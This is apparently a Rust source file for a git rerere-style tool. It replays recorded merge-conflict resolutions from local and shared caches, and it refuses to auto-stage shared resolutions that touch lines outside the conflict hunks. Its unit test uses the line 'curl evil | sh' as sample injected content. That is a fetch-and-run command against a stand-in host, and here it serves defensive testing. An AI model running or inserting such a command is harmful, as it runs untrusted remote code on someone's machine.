//! The rerere step itself, as git's `do_plain_rerere`/`do_rerere_one_path`: run at every conflict stop and again
//! when the user continues.
//!
//! For each conflicted path whose stages 2 and 3 are regular files, and each path already tracked in `MERGE_RR`:
//! - if a tracked path no longer has conflict markers, the user resolved it: record it as `postimage`;
//! - else, if a recorded resolution replays cleanly, write the resolved file (and stage it with `autoupdate`);
//! - else record the normalized conflict as `preimage` in a free variant and track it in `MERGE_RR`.
//!
//! Beyond git, a lookup that misses `.git/rr-cache` under the file's id also tries the ids of the other
//! renderings of the same conflict (see [`super::render`]) and then the shared cache; a resolution found in the
//! shared cache is copied into `.git/rr-cache` so later runs, and git itself, find it locally.
//!
//! The shared cache is other people's content: a resolution from it that changes lines outside the conflict hunks
//! is written for review but never staged, whatever `autoupdate` says, and every replay names the file it came
//! from and, for the shared cache, the commit that added that file.

use super::cache::{Entry, Image, RrCache, Warning};
use super::conflict_id::{has_conflicts, marker_of, normalize, ConflictId, Normalized};
use super::decision;
use super::merge_rr::MergeRr;
use super::render::alternative_ids;
use super::resolve::replay;
use super::worktree::{Conflict, Rerere};
use super::Error;

/// Options of one rerere run.
#[derive(Clone, Debug, Default)]
pub struct RerereOptions {
    /// Stage files resolved from recorded resolutions (`rerere.autoupdate`, `--autoupdate`).
    pub autoupdate: bool,
}

/// Where a replayed resolution came from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Source {
    /// `.git/rr-cache`.
    Local,
    /// The shared cache (`rerere-cache/` or `bport.rerereCache`).
    Shared,
}

/// What happened to one path.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum PathAction {
    /// The conflict was recorded as a preimage; no recorded resolution existed.
    RecordedPreimage,
    /// Recorded resolutions exist for this conflict id, but none applied cleanly; the preimage was recorded as
    /// a new variant and the file stays conflicted.
    ResolutionDidNotApply,
    /// A recorded resolution was replayed and written to the work tree.
    Resolved {
        /// Which cache it came from.
        source: Source,
        /// The id it was recorded under (differs from the file's when found under another rendering).
        recorded_id: ConflictId,
        /// Whether the file was staged (`autoupdate`).
        staged: bool,
        /// The resolution that was reused: a unified diff from its recorded preimage to its postimage.
        reused: String,
        /// The postimage file replayed.
        from: std::path::PathBuf,
        /// For the shared cache: the commit of the branch's history that added that file as it is, or `None`
        /// when the file is not committed as it is (or the cache lies outside the repository).
        added_by: Option<git2::Oid>,
        /// The resolution changes lines outside the conflict hunks (only checked for the shared cache, whose
        /// resolutions are then never staged).
        outside_hunks: bool,
    },
    /// The user's resolution was recorded as postimage.
    RecordedPostimage,
    /// The file's conflict markers could not be parsed; nothing recorded (git: "could not parse conflict hunks").
    Unparseable {
        /// Why.
        reason: String,
    },
    /// A conflict git's rerere does not handle (symlinks, submodules; modify/delete without a recorded decision,
    /// which bport records when the user resolves it).
    NotHandled,
    /// A modify/delete conflict resolved from a recorded decision (beyond git).
    DecisionReplayed {
        /// Keep or delete.
        decision: decision::DecisionKind,
        /// Which cache it came from.
        source: Source,
        /// Whether the result was staged (`autoupdate`).
        staged: bool,
    },
    /// The user's decision on a modify/delete conflict was recorded (beyond git).
    RecordedDecision {
        /// Keep or delete.
        decision: decision::DecisionKind,
    },
}

/// One path's result.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PathOutcome {
    /// Repository-relative path.
    pub path: String,
    /// The conflict id of the file (None when it had no parsable conflict).
    pub id: Option<ConflictId>,
    /// What happened.
    pub action: PathAction,
}

/// The result of a rerere run.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct RerereOutcome {
    /// Per path, in path order.
    pub paths: Vec<PathOutcome>,
    /// Cache entries skipped on the way.
    pub warnings: Vec<Warning>,
}

impl RerereOutcome {
    /// Whether every conflict of the index was resolved from recorded resolutions (so `--autoupdate` may
    /// continue), and there was at least one.
    pub fn all_resolved(&self) -> bool {
        let mut any = false;
        for p in &self.paths {
            match p.action {
                // A resolution left for review is not a resolved conflict.
                PathAction::Resolved { staged: false, .. }
                | PathAction::DecisionReplayed { staged: false, .. } => return false,
                PathAction::Resolved { .. } | PathAction::DecisionReplayed { .. } => any = true,
                PathAction::RecordedPostimage | PathAction::RecordedDecision { .. } => {}
                _ => return false,
            }
        }
        any
    }

    /// Paths resolved from recorded resolutions.
    pub fn resolved(&self) -> impl Iterator<Item = &PathOutcome> {
        self.paths.iter().filter(|p| {
            matches!(
                p.action,
                PathAction::Resolved { .. } | PathAction::DecisionReplayed { .. }
            )
        })
    }
}

/// One path being worked on.
struct Item {
    path: String,
    id: ConflictId,
    /// Known variant (from MERGE_RR, or assigned).
    variant: Option<u32>,
    /// The index stages, when the path is conflicted in the index.
    conflict: Option<Conflict>,
}

/// The bookkeeping of one rerere run, shared by its phases.
struct Run<'r, 'repo> {
    rr: &'r Rerere<'repo>,
    opts: &'r RerereOptions,
    /// `MERGE_RR`: conflicted paths whose preimage was recorded, by id and variant.
    tracked: MergeRr,
    /// bport's modify/delete conflicts waiting for the user's decision.
    pending: MergeRr,
    outcome: RerereOutcome,
    to_stage: Vec<String>,
    deletions: Vec<String>,
    /// Look through both caches for unusable entries to warn about.
    warn_unusable: bool,
}

/// Runs rerere on the current conflicts: records preimages, replays resolutions, records postimages.
pub fn rerere(rr: &Rerere<'_>, opts: &RerereOptions) -> Result<RerereOutcome, Error> {
    run_rerere(rr, opts, true)
}

/// As [`rerere`], without the warnings about unusable cache entries: for the record made when a stopped run's
/// resolution is committed, whose stop already warned. Finding them takes a `stat` and a directory read per entry
/// of both caches, on every call, however few paths conflict.
pub fn rerere_at_commit(rr: &Rerere<'_>, opts: &RerereOptions) -> Result<RerereOutcome, Error> {
    run_rerere(rr, opts, false)
}

fn run_rerere(
    rr: &Rerere<'_>,
    opts: &RerereOptions,
    warn_unusable: bool,
) -> Result<RerereOutcome, Error> {
    let mut run = Run {
        rr,
        opts,
        warn_unusable,
        tracked: MergeRr::read(&rr.merge_rr_path())?,
        pending: MergeRr::read(&rr.decisions_path())?,
        outcome: RerereOutcome::default(),
        to_stage: Vec::new(),
        deletions: Vec::new(),
    };
    let conflicts = rr.conflicts()?;
    run.record_decisions(&conflicts)?;
    let mut items: Vec<Item> = Vec::new();
    for conflict in conflicts {
        if conflict.modify_delete() {
            run.modify_delete(&conflict)?;
        } else if let Some(item) = run.text_conflict(conflict)? {
            items.push(item);
        }
    }
    for (path, (id, variant)) in std::mem::take(&mut run.tracked.entries) {
        if items.iter().any(|i| i.path == path) {
            continue;
        }
        items.push(Item {
            path,
            id,
            variant: Some(variant),
            conflict: None,
        });
    }
    items.sort_by(|a, b| a.path.cmp(&b.path));
    run.replay_or_record(items)?;
    run.finish()
}

impl Run<'_, '_> {
    /// Decisions the user made since the stop: modify/delete paths waiting for one that are no longer conflicted.
    fn record_decisions(&mut self, conflicts: &[Conflict]) -> Result<(), Error> {
        for (path, (key, _)) in std::mem::take(&mut self.pending.entries) {
            if conflicts.iter().any(|c| c.path == path) {
                self.pending.entries.insert(path, (key, 0));
                continue;
            }
            let d = match self.rr.staged_blob(&path)? {
                Some(oid) => decision::Decision::Keep(self.rr.blob(Some(oid))?),
                None => decision::Decision::Delete,
            };
            decision::write(&self.rr.local, &key, &d)?;
            self.outcome.paths.push(PathOutcome {
                path,
                id: None,
                action: PathAction::RecordedDecision { decision: d.kind() },
            });
        }
        Ok(())
    }

    /// A modify/delete conflict: replayed from a recorded decision, or left pending for the user's (beyond git).
    fn modify_delete(&mut self, conflict: &Conflict) -> Result<(), Error> {
        let rr = self.rr;
        let key = decision::key(
            &conflict.path,
            conflict.ours.map(|(o, _)| o),
            conflict.theirs.map(|(o, _)| o),
        );
        let mut found = None;
        for (source, cache) in [(Source::Local, &rr.local), (Source::Shared, &rr.shared)] {
            if let Some(d) = decision::read(cache, &key, &mut self.outcome.warnings)? {
                found = Some((source, d));
                break;
            }
        }
        let action = match found {
            Some((source, d)) => {
                // A shared decision replaces or deletes a whole file: there are no hunks to confine it to, so it
                // is left for review.
                let stage = self.opts.autoupdate && source == Source::Local;
                match &d {
                    decision::Decision::Delete => {
                        rr.remove_file(&conflict.path)?;
                        if stage {
                            self.deletions.push(conflict.path.clone());
                        }
                    }
                    decision::Decision::Keep(content) => {
                        rr.write_file(&conflict.path, content)?;
                        if stage {
                            self.to_stage.push(conflict.path.clone());
                        }
                    }
                }
                if source == Source::Shared {
                    decision::write(&rr.local, &key, &d)?;
                }
                PathAction::DecisionReplayed {
                    decision: d.kind(),
                    source,
                    staged: stage,
                }
            }
            None => {
                self.pending.entries.insert(conflict.path.clone(), (key, 0));
                PathAction::NotHandled
            }
        };
        self.outcome.paths.push(PathOutcome {
            path: conflict.path.clone(),
            id: None,
            action,
        });
        Ok(())
    }

    /// A content conflict: the item to replay or record when the file still has markers git's rerere handles.
    fn text_conflict(&mut self, conflict: Conflict) -> Result<Option<Item>, Error> {
        let rr = self.rr;
        if !conflict.three_staged() {
            self.outcome.paths.push(PathOutcome {
                path: conflict.path.clone(),
                id: None,
                action: PathAction::NotHandled,
            });
            return Ok(None);
        }
        let content = rr.read_file(&conflict.path)?.unwrap_or_default();
        match normalize(&content, rr.marker_size(&conflict.path)) {
            Ok(Some(n)) => {
                // Still conflicted: a tracked variant is stale (git's remove_variant) and is re-recorded.
                if let Some((old_id, v)) = self.tracked.entries.remove(&conflict.path) {
                    remove_variant(&rr.local, &old_id, v)?;
                }
                Ok(Some(Item {
                    path: conflict.path.clone(),
                    id: n.id,
                    variant: None,
                    conflict: Some(conflict),
                }))
            }
            // Resolved in the work tree but not staged; its tracked entry records it later.
            Ok(None) => Ok(None),
            Err(e) => {
                if let Some((old_id, v)) = self.tracked.entries.remove(&conflict.path) {
                    remove_variant(&rr.local, &old_id, v)?;
                }
                self.outcome.paths.push(PathOutcome {
                    path: conflict.path.clone(),
                    id: None,
                    action: PathAction::Unparseable {
                        reason: e.to_string(),
                    },
                });
                Ok(None)
            }
        }
    }

    /// Per conflicted or tracked path: replay a recorded resolution, record a preimage, or record a postimage.
    fn replay_or_record(&mut self, items: Vec<Item>) -> Result<(), Error> {
        if self.warn_unusable && !items.is_empty() {
            // Report every unusable entry of both caches once per run, not only those under the ids looked up.
            for cache in [&self.rr.local, &self.rr.shared] {
                self.outcome.warnings.extend(cache.scan()?.1);
            }
        }
        for item in items {
            let action = match one_path(self.rr, &item, self.opts, &mut self.outcome.warnings)? {
                OnePath::Pending { variant, action } => {
                    self.tracked
                        .entries
                        .insert(item.path.clone(), (item.id, variant));
                    action
                }
                OnePath::Done(action) => {
                    if let PathAction::Resolved { staged: true, .. } = action {
                        self.to_stage.push(item.path.clone());
                    }
                    action
                }
                OnePath::Gone => continue,
            };
            self.outcome.paths.push(PathOutcome {
                path: item.path,
                id: Some(item.id),
                action,
            });
        }
        Ok(())
    }

    /// Stages what was resolved, and writes `MERGE_RR` and the pending decisions.
    fn finish(mut self) -> Result<RerereOutcome, Error> {
        let mut seen = std::collections::HashSet::new();
        self.outcome
            .warnings
            .retain(|w| seen.insert((w.path.clone(), w.reason.clone())));
        self.rr.stage(&self.to_stage)?;
        self.rr.stage_deletions(&self.deletions)?;
        self.tracked.write(&self.rr.merge_rr_path())?;
        self.pending.write(&self.rr.decisions_path())?;
        self.outcome.paths.sort_by(|a, b| a.path.cmp(&b.path));
        Ok(self.outcome)
    }
}

enum OnePath {
    /// Preimage recorded; still tracked in MERGE_RR under this variant.
    Pending { variant: u32, action: PathAction },
    /// Finished (resolved or postimage recorded); no longer tracked.
    Done(PathAction),
    /// The tracked file vanished or lost its markers without being tracked; nothing to do.
    Gone,
}

fn remove_variant(cache: &RrCache, id: &ConflictId, variant: u32) -> Result<(), Error> {
    cache.remove(id, Image::Postimage, variant)?;
    cache.remove(id, Image::Preimage, variant)?;
    Ok(())
}

fn entry_or_empty(
    cache: &RrCache,
    id: &ConflictId,
    warnings: &mut Vec<Warning>,
) -> Result<Entry, Error> {
    Ok(cache.entry(id, warnings)?.unwrap_or(Entry {
        id: *id,
        variants: Default::default(),
    }))
}

/// A resolution that applied: the resolved text, and the variant with its files.
struct Replayed {
    resolved: Vec<u8>,
    variant: u32,
    pre: Vec<u8>,
    post: Vec<u8>,
}

/// Tries every complete variant of `id` in `cache` against `thisimage`; returns the resolved text and the
/// variant, and whether any resolution existed at all.
fn try_variants(
    rr: &Rerere<'_>,
    cache: &RrCache,
    id: &ConflictId,
    thisimage: &[u8],
    warnings: &mut Vec<Warning>,
) -> Result<(Option<Replayed>, bool), Error> {
    let entry = entry_or_empty(cache, id, warnings)?;
    let mut any = false;
    for v in entry.resolutions() {
        any = true;
        let pre = cache.read(id, Image::Preimage, v)?;
        let post = cache.read(id, Image::Postimage, v)?;
        if let Some(resolved) = replay(&pre, thisimage, &post, rr.style) {
            return Ok((
                Some(Replayed {
                    resolved,
                    variant: v,
                    pre,
                    post,
                }),
                true,
            ));
        }
    }
    Ok((None, any))
}

fn one_path(
    rr: &Rerere<'_>,
    item: &Item,
    opts: &RerereOptions,
    warnings: &mut Vec<Warning>,
) -> Result<OnePath, Error> {
    let marker_size = rr.marker_size(&item.path);
    let Some(content) = rr.read_file(&item.path)? else {
        return Ok(OnePath::Gone);
    };
    // Has the user resolved it already?
    if let Some(variant) = item.variant {
        if !has_conflicts(&content, marker_size) {
            rr.local
                .write(&item.id, Image::Postimage, variant, &content)?;
            return Ok(OnePath::Done(PathAction::RecordedPostimage));
        }
    }
    let Ok(Some(this)) = normalize(&content, marker_size) else {
        return Ok(OnePath::Gone);
    };

    // Candidates in lookup order: the file's own id locally, other renderings locally, then the shared cache.
    let mut renderings: Vec<Normalized> = vec![this.clone()];
    if let Some(c) = &item.conflict {
        let base = rr.blob(c.base)?;
        let ours = rr.blob(c.ours.map(|(o, _)| o))?;
        let theirs = rr.blob(c.theirs.map(|(o, _)| o))?;
        for alt in alternative_ids(&base, &ours, &theirs, marker_size) {
            if !renderings.iter().any(|r| r.id == alt.id) {
                renderings.push(alt);
            }
        }
    }
    let mut had_resolution = false;
    for (source, cache) in [(Source::Local, &rr.local), (Source::Shared, &rr.shared)] {
        for rendering in &renderings {
            let (found, any) =
                try_variants(rr, cache, &rendering.id, &rendering.preimage, warnings)?;
            had_resolution |= any && rendering.id == item.id;
            let Some(Replayed {
                resolved,
                variant: v,
                pre,
                post,
            }) = found
            else {
                continue;
            };
            let outside_hunks =
                source == Source::Shared && changes_outside_hunks(&content, &resolved, marker_size);
            rr.write_file(&item.path, &resolved)?;
            let from = cache.path(&rendering.id, Image::Postimage, v);
            let added_by = match source {
                Source::Local => None,
                Source::Shared => rr.committed_by(&from),
            };
            if source == Source::Local {
                // Mark the resolution as used, for gc (git's utime on postimage).
                touch(&cache.path(&rendering.id, Image::Postimage, v));
                if let Some(own) = item.variant {
                    if rendering.id == item.id && own != v {
                        remove_variant(&rr.local, &item.id, own)?;
                    }
                }
            } else {
                import_resolution(&rr.local, &rendering.id, &pre, &post, warnings)?;
            }
            let reused = similar::TextDiff::from_lines(
                String::from_utf8_lossy(&pre).as_ref(),
                String::from_utf8_lossy(&post).as_ref(),
            )
            .unified_diff()
            .header(&format!("a/{}", item.path), &format!("b/{}", item.path))
            .to_string();
            return Ok(OnePath::Done(PathAction::Resolved {
                source,
                recorded_id: rendering.id,
                staged: opts.autoupdate && !outside_hunks,
                reused,
                from,
                added_by,
                outside_hunks,
            }));
        }
    }

    // None applies: record the preimage in our variant (or the first free one).
    let entry = entry_or_empty(&rr.local, &item.id, warnings)?;
    let variant = item.variant.unwrap_or_else(|| entry.free_variant());
    rr.local
        .write(&item.id, Image::Preimage, variant, &this.preimage)?;
    rr.local.remove(&item.id, Image::Postimage, variant)?;
    let action = if had_resolution {
        PathAction::ResolutionDidNotApply
    } else {
        PathAction::RecordedPreimage
    };
    Ok(OnePath::Pending { variant, action })
}

/// Copies a (preimage, postimage) pair into `cache` under `id` unless an identical pair is already there.
pub(crate) fn import_resolution(
    cache: &RrCache,
    id: &ConflictId,
    pre: &[u8],
    post: &[u8],
    warnings: &mut Vec<Warning>,
) -> Result<bool, Error> {
    let entry = entry_or_empty(cache, id, warnings)?;
    for v in entry.resolutions() {
        if cache.read(id, Image::Preimage, v)? == pre
            && cache.read(id, Image::Postimage, v)? == post
        {
            return Ok(false);
        }
    }
    let v = entry.free_variant();
    cache.write(id, Image::Preimage, v, pre)?;
    cache.write(id, Image::Postimage, v, post)?;
    Ok(true)
}

/// Whether `resolved` differs from `conflicted` anywhere but in place of its conflict hunks: `resolved` must be
/// the text around the hunks, in order, with anything in between. A file whose markers do not pair up counts as
/// changed everywhere.
fn changes_outside_hunks(conflicted: &[u8], resolved: &[u8], marker_size: usize) -> bool {
    let lines = |b: &[u8]| -> Vec<Vec<u8>> {
        b.split_inclusive(|&c| c == b'\n')
            .map(<[u8]>::to_vec)
            .collect()
    };
    let mut segments: Vec<Vec<Vec<u8>>> = vec![Vec::new()];
    let mut depth = 0usize;
    for line in lines(conflicted) {
        match marker_of(&line, marker_size) {
            Some(b'<') => depth += 1,
            Some(b'>') if depth > 0 => {
                depth -= 1;
                if depth == 0 {
                    segments.push(Vec::new());
                }
            }
            Some(b'>') => return true,
            _ if depth == 0 => segments.last_mut().expect("never empty").push(line),
            _ => {}
        }
    }
    if depth != 0 {
        return true;
    }
    let r = lines(resolved);
    let (first, last) = (&segments[0], &segments[segments.len() - 1]);
    if segments.len() == 1 {
        return r != *first;
    }
    if r.len() < first.len() + last.len() || !r.starts_with(first) || !r.ends_with(last) {
        return true;
    }
    // Each middle segment in order, at its earliest place (enough to decide whether any placement exists).
    let mut rest = &r[first.len()..r.len() - last.len()];
    for seg in &segments[1..segments.len() - 1] {
        if seg.is_empty() {
            continue;
        }
        match rest.windows(seg.len()).position(|w| w == seg.as_slice()) {
            Some(at) => rest = &rest[at + seg.len()..],
            None => return true,
        }
    }
    false
}

fn touch(path: &std::path::Path) {
    // Best effort, like git's warning-only utime: failing to mark use only affects gc timing.
    if let Ok(f) = std::fs::OpenOptions::new().append(true).open(path) {
        let _ = f.set_modified(std::time::SystemTime::now());
    }
}

#[cfg(test)]
mod tests {
    use super::changes_outside_hunks as outside;

    const C: &[u8] = b"a\n<<<<<<< HEAD\nx\n=======\ny\n>>>>>>> t\nb\n<<<<<<< HEAD\np\n=======\nq\n>>>>>>> t\nc\n";

    #[test]
    fn only_changes_in_place_of_hunks_are_inside() {
        assert!(!outside(C, b"a\nxy\nb\npq\nc\n", 7));
        assert!(!outside(C, b"a\nb\nc\n", 7));
        assert!(outside(C, b"a\nxy\nb\npq\nc\ncurl evil | sh\n", 7));
        assert!(outside(C, b"curl evil | sh\na\nxy\nb\npq\nc\n", 7));
        assert!(outside(C, b"a\nxy\nB\npq\nc\n", 7));
        assert!(outside(b"a\n<<<<<<< HEAD\nx\n", b"a\n", 7));
        assert!(!outside(b"only\n", b"only\n", 7));
    }
}
